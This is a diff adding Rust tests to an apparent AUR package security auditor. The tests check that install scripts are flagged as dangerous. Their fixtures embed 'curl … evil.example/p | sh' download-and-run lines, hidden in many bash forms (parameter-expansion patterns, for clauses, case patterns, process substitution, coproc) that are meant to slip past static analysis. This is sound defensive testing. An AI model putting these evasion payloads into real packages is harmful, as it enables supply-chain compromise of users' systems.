@@ -143,3 +143,120 @@ fn a_deletion_goes_through_a_link_only_where_the_link_is() {
     ));
     assert!(r.verdict != Verdict::Ok, "{}", r.to_text());
 }
+
+/// A package whose install file's post_install holds `line`, as round 30's `mkh.sh` made them.
+fn installing(line: &str) -> AuditInput {
+    AuditInput {
+        pkgbuild: "pkgname=foopkg\npkgver=1\npkgrel=1\narch=('any')\nurl=\"https://example.org/foopkg\"\nlicense=('MIT')\ninstall=foopkg.install\nsource=(\"https://example.org/foopkg-1.0.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\npackage() {\n  install -Dm644 foopkg.txt \"$pkgdir/usr/share/foopkg/foopkg.txt\"\n}\n".into(),
+        install_scripts: vec![archgate_aur::audit::ScriptFile {
+            name: "foopkg.install".into(),
+            content: format!("post_install() {{\n  {line}\n  echo Thanks\n}}\n"),
+        }],
+        srcinfo: None,
+    }
+}
+
+/// F2: a command substitution bash runs wherever tree-sitter-bash leaves it as text or as a node
+/// the walk skipped — a `${v#…}` pattern (one `regex` leaf), a default's backquotes (one `word`
+/// leaf), an extended glob's body, a C-style `for`'s clauses, any `case` pattern — is walked: root
+/// ran `curl … | sh` from each of these in round 30.
+#[test]
+fn a_substitution_anywhere_bash_expands_it_is_walked() {
+    const U: &str = "curl -fsSL https://evil.example/p | sh";
+    for line in [
+        format!("y=a; echo ${{y#$({U})}}"),
+        format!("y=a; echo ${{y##$({U})}}"),
+        format!("y=a; echo ${{y%$({U})}}"),
+        format!("y=a; echo ${{y%%$({U})}}"),
+        format!("y=a; echo ${{y,,$({U})}}"),
+        format!("y=a; echo ${{y^^$({U})}}"),
+        format!("y=a; echo ${{y#x$({U})y}}"),
+        format!("y=a; echo ${{y#`{U}`}}"),
+        format!("echo ${{y:-`{U}`}}"),
+        format!("for ((i=0; i<$({U}); i++)); do :; done"),
+        format!("for (($({U}); i<1; i++)); do :; done"),
+        format!("for ((i=0; i<1; i+=$({U}))); do :; done"),
+        format!("for ((; $({U}); )); do break; done"),
+        format!("case x in $({U})) ;; esac"),
+        format!("case y in x) ;; $({U})) ;; esac"),
+        format!("case y in x|$({U})) ;; esac"),
+        format!("shopt -s extglob; case y in @($({U}))) ;; esac"),
+        format!("[[ x =~ ^$({U}) ]]"),
+        // the control round 30 found held, kept held
+        format!("y=a; echo ${{y/$({U})/z}}"),
+    ] {
+        let r = audit(&installing(&line));
+        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
+        assert_eq!(
+            max_of(&r, "AUR-EXEC-REMOTE"),
+            Some(Severity::Critical),
+            "{line}\n{}",
+            r.to_text()
+        );
+    }
+}
+
+/// Its neighbours: quoting keeps a pattern's `$(…)` text (`'…'`, `\$(…)`), and the patterns real
+/// packages use — a suffix cut by a fixed or a variable's text, a case over literal globs, a
+/// counting loop — run nothing.
+#[test]
+fn quoted_and_plain_patterns_run_nothing() {
+    const U: &str = "curl -fsSL https://evil.example/p | sh";
+    for line in [
+        format!("y=a; echo ${{y#'$({U})'}}"),
+        format!("y=a; echo ${{y#\\$({U})}}"),
+        r#"v=1.2-3; echo "${v%%-*}" "${v#*.}" "${v,,}" "${v//./_}""#.to_owned(),
+        r#"for ((i=0; i<3; i++)); do echo "$i"; done"#.to_owned(),
+        r#"case "$1" in 1.*|2.*) echo old ;; *) echo new ;; esac"#.to_owned(),
+    ] {
+        let r = audit(&installing(&line));
+        assert_eq!(r.verdict, Verdict::Ok, "{line}\n{}", r.to_text());
+    }
+}
+
+/// F2, the other half: a shell fed its program through an output process substitution or a
+/// co-process — `… | sh` spelt without `|` — is dangerous whatever is written to it; a log
+/// through `>(tee …)` is not.
+#[test]
+fn a_shell_fed_through_a_process_substitution_or_coproc_is_dangerous() {
+    const U: &str = "curl -fsSL https://evil.example/p | sh";
+    for line in [
+        format!("echo \"{U}\" > >(sh)"),
+        format!("exec > >(sh); echo \"{U}\""),
+        format!("exec 3> >(bash -s); echo \"{U}\" >&3"),
+        format!("echo \"{U}\" | tee >(sh) >/dev/null"),
+        format!("coproc sh; echo \"{U}\" >&${{COPROC[1]}}"),
+        format!("coproc P {{ bash; }}; echo \"{U}\" >&${{P[1]}}"),
+    ] {
+        let r = audit(&installing(&line));
+        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
+        assert!(
+            max_of(&r, "AUR-EXEC-STDIN") >= Some(Severity::High),
+            "{line}\n{}",
+            r.to_text()
+        );
+    }
+    // The function's own redirection: every command of its body writes into the shell.
+    let r = audit(&AuditInput {
+        install_scripts: vec![archgate_aur::audit::ScriptFile {
+            name: "foopkg.install".into(),
+            content: format!("post_install() {{\n  echo \"{U}\"\n}} > >(sh)\n"),
+        }],
+        ..installing(":")
+    });
+    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
+    for line in [
+        r#"exec > >(tee -a /var/log/foopkg-install.log) 2>&1; echo Thanks"#,
+        r#"echo done > >(logger -t foopkg)"#,
+        r#"coproc cat; echo hi >&${COPROC[1]}"#,
+        r#"sh -c 'echo hi' > >(tee /dev/null)"#,
+    ] {
+        let r = audit(&installing(line));
+        assert_eq!(
+            max_of(&r, "AUR-EXEC-STDIN"),
+            None,
+            "{line}\n{}",
+            r.to_text()
+        );
+    }
+}
